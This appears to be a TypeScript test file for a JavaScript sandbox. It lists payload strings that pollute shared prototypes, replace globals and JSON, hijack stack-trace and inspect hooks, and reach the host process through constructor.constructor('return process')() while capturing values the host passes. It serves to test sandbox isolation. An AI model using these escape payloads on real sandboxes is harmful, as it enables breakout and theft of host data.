/** Changing what the host shares with the payload: prototypes, constructors, errors. Then the host works on with a secret. */
import type { Attempt } from '../attempt.ts'

const seen = `const see = (value) => { try { loot.push(typeof value === 'object' ? JSON.stringify(value) : String(value)) } catch {} }`
/** What the host's code rests on in the realm that it shares with the payload. A change of it is harm, whether the host happens to stumble or not. */
const shared = `const found = []
for (const one of [Object, Function, Array, Map, Promise, String, RegExp, Error, Uint8Array, Object.getPrototypeOf(Uint8Array), ArrayBuffer, JSON, Object.getPrototypeOf(async function* () {}), Object.getPrototypeOf(Object.getPrototypeOf((async function* () {}).prototype))]) {
  for (const owner of [one, one.prototype]) if (owner) found.push({ owner, kind: Object.getPrototypeOf(owner), all: Reflect.ownKeys(owner).map((key) => ({ key, was: Object.getOwnPropertyDescriptor(owner, key) })) })
}
const { getPrototypeOf, getOwnPropertyDescriptor } = Object
const { ownKeys } = Reflect
const isChanged = () => {
  for (let at = 0; at < found.length; at++) {
    const { owner, kind, all } = found[at]
    if (getPrototypeOf(owner) !== kind || ownKeys(owner).length !== all.length) return true
    for (let index = 0; index < all.length; index++) {
      const { key, was } = all[index]
      const is = getOwnPropertyDescriptor(owner, key)
      if (is?.value !== was.value || is?.get !== was.get || is?.set !== was.set) return true
    }
  }
  return false
}`
const change = (name: string, code: string): Attempt => ({
  name,
  code: `${seen}\n${shared}\ntry {\n${code}\n} finally {\nif (isChanged()) took('the intrinsics', true)\n}`,
})

export const REALM: readonly Attempt[] = [
  change('prototype: a property on Object.prototype', `Object.prototype.polluted = 1; return ({}).polluted`),
  change('prototype: by __proto__', `({}).__proto__.polluted = 1; took('the intrinsics', ({}).polluted); await heard(); [].__proto__.push = see; return 'set'`),
  change(
    'prototype: setters that see what is assigned',
    `Object.defineProperty(Object.prototype, 'metadata', { set(value) { see(value) }, get() { return undefined } })`,
  ),
  change(
    'prototype: Array.prototype.push',
    `const push = Array.prototype.push; Array.prototype.push = function (...all) { all.forEach(see); return push.apply(this, all) }`,
  ),
  change(
    'prototype: Map.prototype.get and set',
    `for (const name of ['get', 'set']) { const was = Map.prototype[name]; Map.prototype[name] = function (...all) { all.forEach(see); return was.apply(this, all) } }`,
  ),
  change(
    'prototype: Promise.prototype.then',
    `const then = Promise.prototype.then; Promise.prototype.then = function (...all) { see(this); return then.apply(this, all.map((f) => (v) => { see(v); return f?.(v) })) }`,
  ),
  change(
    'prototype: Function.prototype.call, apply and bind',
    `for (const name of ['call', 'apply', 'bind']) { const was = Function.prototype[name]; Function.prototype[name] = function (...all) { all.forEach(see); return was.apply(this, all) } }`,
  ),
  change(
    'prototype: the iterator of arrays',
    `const was = Array.prototype[Symbol.iterator]; Array.prototype[Symbol.iterator] = function* () { for (let at = 0; at < this.length; at++) { see(this[at]); yield this[at] } }`,
  ),
  change(
    'prototype: the typed arrays',
    `const { prototype } = Object.getPrototypeOf(Uint8Array); Object.defineProperty(prototype, 'byteLength', { get() { see(this); return 0 } })`,
  ),
  change('prototype: Symbol.hasInstance of Uint8Array', `Object.defineProperty(Uint8Array, Symbol.hasInstance, { value: (one) => { see(one); return true } })`),
  change(
    'prototype: generators and async iterators',
    `const found = Object.getPrototypeOf(Object.getPrototypeOf((async function* () {}).prototype)); found.next = async (value) => { see(value); return { done: true } }`,
  ),
  change(
    'prototype: String and RegExp',
    `String.prototype.slice = function () { see(this); return 'forged' }; RegExp.prototype.exec = function (text) { see(text); return null }`,
  ),
  change('prototype: Error', `Object.defineProperty(Error.prototype, 'message', { get() { see(this); return 'forged' }, set(value) { see(value) } })`),
  change(
    'prototype: by Reflect.setPrototypeOf',
    `Reflect.setPrototypeOf(Object.prototype, new Proxy({}, { get: (_, name, from) => { see(from) } })); Object.setPrototypeOf(Array.prototype, { polluted: 1 })`,
  ),
  change('constructor: JSON replaced', `const { parse } = JSON; JSON.parse = (text) => { see(text); return parse(text) }; JSON.stringify = () => 'forged'`),
  change(
    'constructor: globals replaced',
    `for (const name of ['Uint8Array', 'Map', 'Promise', 'Array', 'Object', 'Proxy', 'AbortController', 'structuredClone', 'setImmediate', 'performance', 'TextDecoder']) { try { globalThis[name] = new Proxy(globalThis[name], { apply: (_, __, all) => see(all), construct: (target, all) => { see(all); return Reflect.construct(target, all) } }); took('the globals', true) } catch {} }`,
  ),
  change(
    'constructor: Object.freeze and defineProperty replaced',
    `for (const name of ['freeze', 'keys', 'entries', 'fromEntries', 'assign', 'defineProperty']) { const was = Object[name]; Object[name] = (...all) => { all.forEach(see); return was(...all) } }`,
  ),
  change(
    'constructor: species of arrays and promises',
    `for (const kind of [Map, Array, ArrayBuffer, Object.getPrototypeOf(Uint8Array), Promise]) { Object.defineProperty(kind, Symbol.species, { get() { see(this); return function (...all) { all.forEach(see); return {} } } }); if (kind === Map) { took('the intrinsics', isChanged()); await heard() } }`,
  ),
  change(
    'realm: what RegExp remembers of the host',
    `took('what RegExp remembers', RegExp.input); see(RegExp.input); see(RegExp.lastMatch); see(RegExp['$_']); see(RegExp.$1); return RegExp.input`,
  ),
  change(
    'realm: registered symbols',
    `for (const name of ['nodejs.util.inspect.custom', 'nodejs.util.promisify.custom', 'nodejs.rejection', 'nodejs.disposable']) { Object.prototype[Symbol.for(name)] = (...all) => { all.forEach(see); useProcess(all[2]?.constructor.constructor('return process')()) } }`,
  ),
  change(
    'errors: prepareStackTrace',
    `Error.prepareStackTrace = (_, sites) => { for (const site of sites) { see(site.getThis?.()); useProcess(site.getFunction?.()?.constructor('return process')()) } return sites }; return new Error('x').stack?.[0]`,
  ),
  change(
    'errors: captureStackTrace',
    `const holder = {}; Error.prepareStackTrace = (_, sites) => sites; Error.captureStackTrace(holder); for (const site of holder.stack) { const that = site.getThis(); if (that?.process) return useProcess(that.process) }`,
  ),
  change(
    'errors: what a stack trace shows of the machine',
    `Error.stackTraceLimit = Infinity; const { stack } = new Error('x'); if (/\\/(home|root|tmp|work|usr|app)\\//.test(stack)) { loot.push('forged: a host path in ' + stack) } return stack`,
  ),
  change(
    'errors: the host’s own class, by an error of a capability',
    `const error = await ctx.capabilities.proc.read.call(null, () => {}).catch((error) => error); const kind = error.constructor; kind.prototype.code = 'forged'; took('a class of the host', true); Object.setPrototypeOf(kind, class { constructor(...all) { all.forEach(see) } }); Object.setPrototypeOf(kind.prototype, { get message() { return 'forged' } })`,
  ),
  change(
    'errors: the host’s own class, by the reason of a signal',
    `const stop = new Promise((resolve) => ctx.signal.addEventListener('abort', resolve)); hooks.stop = () => { const kind = ctx.signal.reason.constructor; kind.prototype.polluted = 1; took('a class of the host', true); Object.setPrototypeOf(kind, function (...all) { all.forEach(see) }) }`,
  ),
  change(
    'errors: one with getters, thrown to the host',
    `throw Object.defineProperties(new Error(), { code: { get() { see(new Error().stack); return 'INTERNAL' } }, message: { get() { useProcess(this.constructor.constructor('return process')()) } } })`,
  ),
  change(
    'errors: one that inspects its inspector, thrown at nobody',
    `setTimeout(() => { throw { [Symbol.for('nodejs.util.inspect.custom')]: (_, options, inspect) => { useProcess(inspect.constructor('return process')()); inspect.defaultOptions.polluted = 1; ctx.log('error', 'forged by inspect') }, toString: () => 'thrown' } }, 0)`,
  ),
  change(
    'errors: a rejection with the same',
    `Promise.reject({ [Symbol.for('nodejs.util.inspect.custom')]: (_, options, inspect) => { ctx.log('error', 'forged by inspect'); useProcess(inspect.constructor('return process')()) } })`,
  ),
  change(
    'errors: console.log with the same',
    `console.log({ [Symbol.for('nodejs.util.inspect.custom')]: (_, options, inspect) => { ctx.log('error', 'forged by inspect'); useProcess(inspect.constructor('return process')()) } })`,
  ),
  change(
    'realm: a class of anything given that can still be changed',
    `const check = (one) => {
  for (let at = Object.getPrototypeOf(one); at; at = Object.getPrototypeOf(at)) {
    for (const shared of [at, at.constructor]) if (shared && !Object.isFrozen(shared)) loot.push('forged: a class of ' + Object.prototype.toString.call(one) + ' ' + Reflect.ownKeys(shared).map(String).join())
  }
}
hooks.feed = async (requests) => { check(requests); check(requests[Symbol.asyncIterator]()); return text('fed') }
const given = [request, call, ctx, ctx.signal, call.signal, call.metadata, ctx.capabilities, ctx.capabilities.proc, ctx.capabilities.proc.read, ctx.services, ctx.sharedBytes(8), ctx.sharedBytes(8).buffer, setTimeout(() => {}, 1), setInterval(() => {}, 1e6).unref(), setImmediate(() => {}), new AbortController(), new URL('http://a/?b'), new URL('http://a/?b').searchParams, new URLSearchParams('a=b').entries(), new TextDecoder(), new TextEncoder(), new Event('a'), new EventTarget(), new DOMException(), structuredClone(new Error()), thrownBy(() => atob('?')), thrownBy(() => new URL('')), thrownBy(() => structuredClone(() => {})), await ctx.capabilities.proc.read(), await ctx.capabilities.proc.read(() => {}).catch((error) => error), await ctx.services.unary({ path: '/a.B/C', kind: 'unary', request: { encode: () => new Uint8Array(0) }, response: {} }, {}).catch((error) => error), console, performance, Intl, new Intl.NumberFormat(), Temporal.Now.instant(), new WeakRef({}), new FinalizationRegistry(() => {}), new Float32Array(1), new Date(), [].values(), new Map().entries(), 'a'.matchAll(/a/g)]
given.forEach(check)
return given.length`,
  ),
]
